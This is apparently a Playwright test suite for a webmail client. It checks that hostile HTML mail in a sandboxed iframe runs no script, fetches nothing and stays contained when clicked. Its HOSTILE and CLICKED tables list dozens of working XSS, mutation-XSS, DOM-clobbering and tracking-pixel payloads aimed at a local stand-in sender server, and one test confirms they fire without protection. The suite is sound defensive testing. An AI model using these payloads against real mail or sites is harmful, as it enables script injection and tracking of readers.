"""HTML mail on the page: whatever was written into it, it runs nothing, loads nothing, stays in its frame."""

from __future__ import annotations

import socket
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import Browser, Frame, Page, Route, expect

from tests.e2e.programs import Serving, wait_until

# What each hostile mail says too; only that may be there in the end.
GREETING = "Dear Mia"

# `{bad}` is the sender's server. Where nothing keeps it from it, each of these runs or loads something in the
# browser that the tests run in: see `test_mail_does_its_harm_where_nothing_keeps_it_from_it`.
HOSTILE = {
    "script": "<script>top.ran()</script>",
    "script from elsewhere": "<script src='{bad}/a.js'></script>",
    "module": "<script type=module>import '{bad}/m.js'</script>",
    "onerror": "<img src='/nothing' onerror='top.ran()'>",
    "onload of a style": "<style onload='top.ran()'></style>",
    "svg onload": "<svg onload='top.ran()'></svg>",
    "svg script": "<svg><script>top.ran()</script></svg>",
    "svg image": "<svg><image href='{bad}/i.png'/></svg>",
    "svg filter": "<svg><filter id=f><feImage href='{bad}/f.png'/></filter><rect width=9 height=9"
    " filter='url(#f)'/></svg>",
    "html in an svg": "<svg><foreignObject><img src=/nothing onerror='top.ran()'></foreignObject></svg>",
    "animation": "<style>@keyframes a{{from{{opacity:0}}}}</style>"
    "<p style='animation:a 1s' onanimationstart='top.ran()'>x</p>",
    "autofocus": "<input autofocus onfocus='top.ran()'>",
    "ontoggle": "<details open ontoggle='top.ran()'>x</details>",
    "frame": "<iframe src='{bad}/frame'></iframe>",
    "frame of javascript": "<iframe src='javascript:top.ran()'></iframe>",
    "frame in a frame": '<iframe srcdoc="<script>top.ran()</script>"></iframe>',
    "object": "<object data='{bad}/o'></object>",
    "embed": "<embed src='{bad}/e'>",
    "picture": "<img src='{bad}/open.gif?who=mia'>",
    "srcset": "<img srcset='{bad}/1.png 1x, {bad}/2.png 2x'>",
    "picture element": "<picture><source srcset='{bad}/p.png'><img></picture>",
    "background": "<table background='{bad}/b.png'><tr><td>x</table>",
    "background of the body": "<body background='{bad}/b.png'>x",
    "image input": "<input type=image src='{bad}/i.png'>",
    "video": "<video src='{bad}/v.mp4' preload=auto></video>",
    "poster": "<video poster='{bad}/p.png'></video>",
    "audio": "<audio src='{bad}/a.mp3' preload=auto></audio>",
    "track": "<video><source src='{bad}/v.mp4'></video>",
    "css url": "<style>p{{background:url({bad}/c.png)}}</style><p>x</p>",
    "css url in place": "<p style='background:url({bad}/s.png)'>x</p>",
    "css cursor and list": "<ul style='list-style-image:url({bad}/l.png)'><li>x</ul>",
    "css import": "<style>@import '{bad}/i.css';</style>",
    "css font": "<style>@font-face{{font-family:f;src:url({bad}/f.woff)}}p{{font-family:f}}</style><p>x</p>",
    "css escape": "<style>p{{background:u\\72 l({bad}/e.png)}}</style><p>x</p>",
    "stylesheet": "<link rel=stylesheet href='{bad}/s.css'>",
    "preload": "<link rel=preload as=image href='{bad}/p.png'>",
    "modulepreload": "<link rel=modulepreload href='{bad}/m.js'>",
    "prefetch": "<link rel=prefetch href='{bad}/p'>",
    "icon and manifest": "<link rel=manifest href='{bad}/m.json'><img src='{bad}/i.png'>",
    "refresh": "<meta http-equiv=refresh content='0;url={bad}/r'>",
    "base": "<base href='{bad}/'><img src=relative.png>",
    "noscript": "<noscript><p title=\"</noscript><img src=/nothing onerror='top.ran()'>\">x</p></noscript>",
    "template": "<template shadowrootmode=open><img src='{bad}/t.png'></template><img src='{bad}/t2.png'>",
    "shadow root": "<div><template shadowrootmode=open><script>top.ran()</script></template></div>"
    "<img src='{bad}/s.png'>",
    "math": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=/nothing'
    " onerror=top.ran()&gt;\"></table><img src=/nothing onerror='top.ran()'>",
    "math in a form": "<form><math><mtext></form><form><mglyph><style></math><img src=/nothing"
    " onerror='top.ran()'></style></mglyph></form><img src=/nothing onerror='top.ran()'>",
    "comment that ends": "<!--><img src=/nothing onerror='top.ran()'>-->",
    "style that ends": "<style></style/><img src=/nothing onerror='top.ran()'></style>"
    "<svg></p><style><a id=\"</style><img src=/nothing onerror='top.ran()'>\"></a></style></svg>",
    "title of an svg": "<svg><title><img src=/nothing onerror='top.ran()'></title></svg>",
    "form whose fields hide it": "<form onclick=1><input name=childNodes><input name=attributes>"
    "<input name=remove><input name=localName><img src=/nothing onerror='top.ran()'></form>",
    "document that is hidden": "<img name=body><form name=documentElement></form>"
    "<img src=/nothing onerror='top.ran()'>",
    "unknown element": "<x-y style='animation:a' onclick=1><img src=/nothing onerror='top.ran()'></x-y>",
    "nested deep": "<div>" * 600 + "<img src=/nothing onerror='top.ran()'>",
}

# What does nothing before somebody clicks on it.
CLICKED = {
    "javascript link": "<a class=it href='javascript:top.ran()'>x</a>",
    "javascript link with a tab in it": "<a class=it href='java\tscript:top.ran()'>x</a>",
    "javascript link with a control character": "<a class=it href='&#1;javascript:top.ran()'>x</a>",
    "data link": "<a class=it href='data:text/html,<script>opener.ran()</script>'>x</a>",
    "link with a ping": "<a class=it href='/nothing' ping='{bad}/ping'>x</a>",
    "link into our page": "<a class=it href='/session' target=_top>x</a>",
    "svg link": "<svg height=99><a href='javascript:top.ran()'><text class=it y=20>x</text></a></svg>",
    "map": "<img src='data:image/gif;base64,R0lGODlhAQABAAAAACw=' usemap=#m width=50 height=50 class=it>"
    "<map name=m><area shape=default href='{bad}/map' target=_top></map>",
    "form": "<form action='{bad}/form' target=_top><button class=it>x</button></form>",
    "formaction": "<form><button class=it formaction='javascript:top.ran()'>x</button></form>",
    "onclick": "<p class=it onclick='top.ran()'>x</p>",
}


class Sender(ThreadingHTTPServer):
    """The hostile sender's server: it answers everything, and knows of every connection and request."""

    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), Answer)
        self.url = f"http://127.0.0.1:{self.server_address[1]}"
        self.heard: list[str] = []

    def get_request(self) -> tuple[socket.socket, object]:
        """A browser has connected."""
        self.heard.append("a connection")
        return super().get_request()


class Answer(BaseHTTPRequestHandler):
    """200 to everything."""

    server: Sender

    def do_GET(self) -> None:
        self.server.heard.append(f"{self.command} {self.path}")
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Content-Length", "0")
        self.end_headers()

    do_POST = do_GET  # noqa: N815 its name is http.server's

    def log_message(self, format: str, *args: object) -> None:  # noqa: A002 as well
        """It is quiet."""


@pytest.fixture
def sender() -> Iterator[Sender]:
    """A server of the sender's, on a port of its own."""
    with Sender() as sender:
        thread = threading.Thread(target=sender.serve_forever, args=(0.01,))
        thread.start()
        yield sender
        sender.shutdown()
        thread.join()


class Reader:
    """A page with nothing on it but one mail at a time."""

    def __init__(self, page: Page, url: str) -> None:
        self.page = page
        self.reached: list[str] = []
        page.route(f"{url}/", self._empty)
        page.goto(f"{url}/")
        page.evaluate("import('/page/mailframe.js')")
        page.context.on("page", lambda page: self.reached.append(f"opened {page.url}"))
        page.context.route("**/*", self._record)
        self.begin()

    def begin(self) -> None:
        """Nothing has happened yet."""
        self.page.evaluate(
            """() => {
              document.body.replaceChildren();
              window.harm = false;
              window.ran = () => { window.harm = true; };
            }"""
        )
        self.reached.clear()

    def show(self, html: str) -> Frame:
        """Puts a mail on the page, as we do."""
        self.page.evaluate(
            """async (html) => {
              const { mailFrame } = await import("/page/mailframe.js");
              const mail = document.body.appendChild(mailFrame(html));
              await new Promise((done) => mail.firstChild.addEventListener("load", done));
            }""",
            html,
        )
        return self.frame

    @property
    def frame(self) -> Frame:
        """Where the mail is."""
        frame = self.page.query_selector("iframe")
        assert frame is not None
        inside = frame.content_frame()
        assert inside is not None
        return inside

    def settle(self) -> None:
        """Come back when what was to happen by itself has happened: styles, pictures, animations, timers."""
        self.page.evaluate(
            """async () => {
              const turn = () => new Promise((done) => requestAnimationFrame(() => setTimeout(done)));
              for (let turns = 0; turns < 5; turns += 1) await turn();
            }"""
        )

    @property
    def was_harmed(self) -> bool:
        """Whether something of the mail ran."""
        return bool(self.page.evaluate("harm"))

    def _empty(self, route: Route) -> None:
        route.fulfill(response=route.fetch(), body="<!doctype html><title>Mail</title>")

    def _record(self, route: Route) -> None:
        self.reached.append(route.request.url)
        route.continue_()


@pytest.fixture(scope="module")
def page_of_ours(browser: Browser, server: Serving) -> Iterator[Reader]:
    """A page with the policy that all of ours have."""
    with browser.new_context() as context:
        yield Reader(context.new_page(), server.url)


@pytest.fixture(scope="module")
def page_without_policy(browser: Browser, server: Serving) -> Iterator[Reader]:
    """The same where no policy counts, neither the page's nor the frame's."""
    with browser.new_context(bypass_csp=True) as context:
        yield Reader(context.new_page(), server.url)


@pytest.fixture
def reader(page_of_ours: Reader) -> Reader:
    """Somebody who reads mail."""
    page_of_ours.begin()
    return page_of_ours


@pytest.fixture
def careless(page_without_policy: Reader) -> Reader:
    """Somebody who reads mail on a page without a policy."""
    page_without_policy.begin()
    return page_without_policy


def hostile(name: str, sender: Sender) -> str:
    return f"{GREETING} {(HOSTILE | CLICKED)[name].format(bad=sender.url)}"


@pytest.mark.parametrize("name", HOSTILE)
def test_mail_does_its_harm_where_nothing_keeps_it_from_it(
    careless: Reader, sender: Sender, name: str
) -> None:
    careless.page.evaluate(
        """(html) => {
          const frame = document.createElement("iframe");
          frame.srcdoc = html;
          document.body.append(frame);
        }""",
        hostile(name, sender),
    )
    wait_until(lambda: careless.was_harmed or bool(sender.heard), f"the harm of {name}", 5)


@pytest.mark.parametrize("name", HOSTILE)
def test_injected_mail_runs_nothing_and_loads_nothing(reader: Reader, sender: Sender, name: str) -> None:
    frame = reader.show(hostile(name, sender))
    reader.settle()
    assert GREETING in frame.inner_text("body")
    assert not reader.was_harmed
    assert (sender.heard, reader.reached) == ([], [])


@pytest.mark.parametrize("name", [name for name in HOSTILE if not name.startswith("css")])
def test_what_is_built_of_a_mail_is_harmless_without_sandbox_and_policy(
    careless: Reader, sender: Sender, name: str
) -> None:
    careless.page.evaluate(
        """async (html) => {
          const { buildMail } = await import("/page/mailtree.js");
          const frame = document.createElement("iframe");
          document.body.append(frame);
          buildMail(html, frame.contentDocument.body);
        }""",
        hostile(name, sender),
    )
    careless.settle()
    assert GREETING in careless.frame.inner_text("body")
    assert not careless.was_harmed
    assert (sender.heard, careless.reached) == ([], [])


@pytest.mark.parametrize("name", HOSTILE)
def test_sandbox_and_policy_suffice_if_a_mail_is_built_as_it_came(
    reader: Reader, sender: Sender, name: str
) -> None:
    reader.show("")
    reader.page.evaluate(
        """(html) => {
          const inside = document.querySelector("iframe").contentDocument;
          inside.body.append(inside.createRange().createContextualFragment(html));
        }""",
        hostile(name, sender),
    )
    reader.settle()
    assert not reader.was_harmed
    # To where a frame will lead a browser connects ahead, before it is told that it must not go there.
    assert [what for what in sender.heard if what != "a connection"] == []
    assert reader.reached == []


@pytest.mark.parametrize("name", CLICKED)
def test_click_in_injected_mail_runs_nothing_and_loads_nothing(
    reader: Reader, sender: Sender, name: str
) -> None:
    frame = reader.show(hostile(name, sender))
    reader.settle()
    for it in frame.locator(".it").all():
        it.click()
    reader.settle()
    assert GREETING in frame.inner_text("body")
    assert not reader.was_harmed
    assert (sender.heard, reader.reached) == ([], [])


def test_link_opens_a_tab_of_its_own_that_is_not_told_where_it_was(reader: Reader, sender: Sender) -> None:
    frame = reader.show(f"<a href='{sender.url}/house' target=_top rel=opener>The house</a>")
    with reader.page.context.expect_page() as opened:
        frame.click("text=The house")
    tab = opened.value
    assert tab.url == f"{sender.url}/house"
    assert tab.evaluate("[document.referrer, opener]") == ["", None]
    tab.close()
    assert reader.page.evaluate("location.pathname") == "/"


def test_links_to_write_and_to_call_stay_and_those_without_a_scheme_lead_nowhere(reader: Reader) -> None:
    frame = reader.show(
        "<a href='mailto:ana@example.org'>a</a><a href=' TEL:+6421555'>b</a><a href='/session'>c</a>"
        "<a href='//example.org'>d</a><a href='#top'>e</a><a href='file:///etc/passwd'>f</a><a name=top>g</a>"
    )
    addresses = frame.eval_on_selector_all("a", "links => links.map((a) => a.getAttribute('href'))")
    assert addresses == ["mailto:ana@example.org", "tel:+6421555", None, None, None, None, None]


def test_frame_is_never_allowed_scripts(reader: Reader) -> None:
    reader.show("x")
    sandbox = reader.page.get_attribute("iframe", "sandbox")
    assert sandbox == "allow-same-origin allow-popups allow-popups-to-escape-sandbox"


def test_mail_keeps_its_look(reader: Reader) -> None:
    frame = reader.show(
        "<html><head><title>Not text</title><style>p { color: rgb(1, 2, 3) }</style></head>"
        "<body bgcolor='#abcdef'><p>One<o:p>&nbsp;two</o:p></p><table width=300><tr><td>Three</table>"
        "<form><label>Four</label></form><img src='data:image/gif;base64,R0lGODlhAQABAAAAACw='></body>"
    )
    assert frame.inner_text("body").split() == ["One", "two", "Three", "Four"]
    assert frame.evaluate("getComputedStyle(document.querySelector('p')).color") == "rgb(1, 2, 3)"
    assert frame.evaluate("getComputedStyle(document.body).backgroundColor") == "rgb(171, 205, 239)"
    assert frame.evaluate("document.querySelector('table').offsetWidth") == 300
    assert frame.locator("img").count() == 1


def test_pictures_that_would_have_to_be_fetched_are_counted_and_those_that_count_readers_are_not(
    reader: Reader, sender: Sender
) -> None:
    frame = reader.show(
        f"<img src='{sender.url}/a.png' alt='The garden'><img src='{sender.url}/b.png'>"
        f"<img src='{sender.url}/c.gif' width=1 height=1>"
    )
    assert frame.inner_text("body") == "The garden"
    assert reader.page.inner_text(".mail-pictures").startswith("2 pictures are not loaded")


def test_frame_is_as_high_as_its_mail_and_follows_it(reader: Reader) -> None:
    frame = reader.show("<div id=it style='height:120px'></div>")
    expect(reader.page.locator("iframe")).to_have_css("height", "120px")
    for height in ("777px", "50px"):
        frame.eval_on_selector("#it", "(it, height) => { it.style.height = height; }", height)
        expect(reader.page.locator("iframe")).to_have_css("height", height)
    assert frame.evaluate("document.documentElement.scrollHeight") == 50


def test_wide_mail_scrolls_inside_itself(reader: Reader) -> None:
    frame = reader.show("<table width=3000><tr><td>x</table>")
    reader.settle()
    assert frame.evaluate("document.getElementById('mail').scrollWidth") == 3000
    for document in (frame, reader.page.main_frame):
        assert document.evaluate("document.documentElement.scrollWidth <= innerWidth")


def test_mail_that_is_always_higher_than_its_frame_does_not_grow_for_ever(reader: Reader) -> None:
    reader.show("<div style='height:calc(100vh + 10px)'>x</div>")
    expect(reader.page.locator("iframe")).to_have_css("height", "300px")
    reader.settle()
    expect(reader.page.locator("iframe")).to_have_css("height", "300px")


def test_mail_is_there_again_when_its_frame_was_moved(reader: Reader) -> None:
    reader.show("<p>Dear Mia</p>")
    reader.page.evaluate(
        """() => {
          const place = document.body.appendChild(document.createElement("section"));
          place.append(document.querySelector(".mail-frame"));
        }"""
    )
    assert reader.page.frame_locator("section iframe").locator("p").inner_text() == GREETING


def test_keys_that_are_pressed_in_a_mail_reach_the_page(reader: Reader) -> None:
    frame = reader.show("<p>Dear Mia</p>")
    reader.page.evaluate("addEventListener('keydown', (event) => { window.pressed = event.key; })")
    frame.click("p")
    reader.page.keyboard.press("j")
    assert reader.page.evaluate("pressed") == "j"


def test_mail_lies_on_white_paper_on_a_dark_page_too(reader: Reader) -> None:
    reader.page.emulate_media(color_scheme="dark")
    frame = reader.show("x")
    ground = frame.evaluate("getComputedStyle(document.documentElement).backgroundColor")
    assert ground == "rgb(255, 255, 255)"
    assert reader.page.eval_on_selector("iframe", "frame => getComputedStyle(frame).colorScheme") == "light"
    reader.page.emulate_media(color_scheme="light")
